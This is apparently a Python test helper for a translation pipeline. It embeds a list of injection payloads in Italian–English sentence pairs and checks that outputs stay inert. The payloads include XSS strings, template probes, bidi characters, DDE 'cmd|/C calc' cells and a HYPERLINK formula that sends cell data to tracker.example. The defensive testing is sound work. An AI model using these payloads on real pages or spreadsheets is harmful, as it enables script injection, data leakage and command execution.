"""Text made to do something, and what no output may hold of it."""

import csv
import io
import re

HOSTILE = {
    "script": "<script>window.taken = 1</script>",
    "closing": "</script></style></textarea></title>--><script>window.taken = 1</script>",
    "handler": '"><img src=x onerror="window.taken = 1"><svg/onload=window.taken=1>',
    "attribute": "' autofocus onfocus='window.taken = 1' x='",
    "link": '<a href="javascript:window.taken=1">qui</a> [qui](javascript:window.taken=1)',
    "beacon": '<img src="http://tracker.example/x.png"> ![x](http://tracker.example/x.png)',
    "frame": '<iframe srcdoc="<script>parent.taken = 1</script>"></iframe><base href="//x">',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://tracker.example/">',
    "comment": "<!--[if IE]><script>window.taken = 1</script><![endif]--> <![CDATA[ ]]> ]]>",
    "template": "{{ 7 * 7 }} {% for x in y %} ${7*7} #{7*7} <%= 7*7 %>",
    "json": '"}], "flags": [{"id": "\\u003cscript\\u003e',
    "entity": "&lt;script&gt;window.taken=1&lt;/script&gt; &#60;script&#62; &xxe;",
    "bidi": "\u202eesrever\u202c \u2066isolate\u2069 \u200fright\u061c",
    "unseen": "zero\u200bwidth\u200d\u2060\ufeff tag\U000e0041\U000e007f selector\ufe0f\U000e0100",
    "formula": '=HYPERLINK("http://tracker.example/?"&A1) +1 -1 @SUM(1) ＝1',
    "command": "::set-output name=x::y ::add-mask::z %0A::error::w ##[error]v",
    "markdown": "| a | b | @everyone #1 GH-1 owner/repo#1 `x` **y** <details> http://x.example",
}
ITALIAN = "Il governo ha approvato ieri la legge numero {n}, dopo lunghe trattative {x}."
ENGLISH = "The government approved law number {m} yesterday, after long negotiations {x}."
EXTRA = "Secondo il ministro {x} nessuno ha letto il testo della riforma delle pensioni."
STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def pairs():
    """Italian paragraphs that hold such text, with their translations, most of them wrong."""
    for number, text in enumerate(HOSTILE.values()):
        italian = f"{ITALIAN.format(n=100 + number, x=text)} {EXTRA.format(x=text)}"
        yield italian, ENGLISH.format(m=200 + number, x=text)
    for sign in "=+-@＝＋－＠":
        call = f"{sign}cmd|'/C calc'!A1"
        yield f"{call}, disse il ministro a Roma.", f"{call}, the minister said in Rome."


def assert_inert(text):
    """Nothing in it steers a terminal, a log or whoever reads along."""
    assert STEERING.findall(text) == []


def assert_no_formulas(tables):
    """No cell of a CSV file or a workbook is a formula or leads elsewhere."""
    for path in tables:
        check = _check_workbook if path.suffix == ".xlsx" else _check_csv
        check(path)


def _check_csv(path):
    rows = csv.reader(io.StringIO(path.read_text("utf-8"), newline=""))
    cells = {cell for row in rows for cell in row}
    wild = {cell for cell in cells if cell[:1] in tuple("=+-@＝＋－＠\t\r\n")}
    assert {cell for cell in wild if not re.fullmatch(r"-?[\d.e-]+", cell)} == set()


def _check_workbook(path):
    from openpyxl import load_workbook

    for sheet in load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert cell.hyperlink is None or not (cell.hyperlink.target or "").strip()


def assert_only_text(markdown):
    """A comment makes no link, picture or mention."""
    from markdown_it import MarkdownIt

    html = MarkdownIt("gfm-like", {"linkify": False}).render(markdown)
    tags = {name.lower() for name in re.findall(r"<([a-zA-Z0-9]+)", html)}
    assert tags <= {"h3", "p", "table", "thead", "tbody", "tr", "th", "td", "em", "strong"}
    assert not re.search(r"@[a-z]|(?<!&)#\d", markdown)
    assert_inert(markdown.replace("\n", ""))
